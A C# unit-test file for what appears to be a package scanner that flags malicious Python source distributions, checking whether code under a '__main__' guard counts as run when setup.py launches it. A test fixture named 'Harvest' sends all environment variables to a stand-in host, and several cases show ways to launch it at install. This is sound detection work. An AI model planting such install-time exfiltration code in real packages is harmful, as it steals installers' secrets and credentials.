using PackageWall.Inspection.Reports;
using PackageWall.Packages;
using PackageWall.Testing.Packages;

namespace PackageWall.Inspection.Tests.Catalogue;

/// <summary>What stands under the question whether a file is the program runs where it is, and not where the file is imported.</summary>
public sealed class MainBlockTests
{
    private const string Harvest = "import os, json, urllib.request\nif __name__ == '__main__':\n    urllib.request.urlopen('https://collect.invalid/x', data=json.dumps(dict(os.environ)).encode())\n";

    private static Verdict Sdist(string setup, string module, string other) => CatalogueInspection.Of(
        Ecosystem.PyPi,
        "sample-1.0.0.tar.gz",
        new SdistBuilder("sample", "1.0.0").File("setup.py", setup).File("sample/__init__.py", module).File("sample/other.py", other).Build()).Verdict;

    private const string Setup = "from setuptools import setup\nsetup(name='sample', version='1.0.0', packages=['sample'])\n";

    [Fact]
    public void An_imported_module_does_not_run_it() => Sdist(Setup, "from . import other\n", Harvest).ShouldNotBe(Verdict.Malicious);

    [Theory]
    [InlineData("import subprocess, sys\nsubprocess.run([sys.executable, 'sample/other.py'])\n")]
    [InlineData("import os\nos.system('python sample/other.py')\n")]
    [InlineData("import os\nos.system('python -m sample.other')\n")]
    [InlineData("exec(open('sample/other.py').read())\n")]
    [InlineData("import runpy\nrunpy.run_path('sample/other.py', run_name='__main__')\n")]
    public void A_started_file_runs_it(string start) => Sdist(start + Setup, "", Harvest).ShouldBe(Verdict.Malicious);

    [Fact]
    public void The_setup_script_is_started() => Sdist(Harvest + Setup, "", "").ShouldBe(Verdict.Malicious);
}
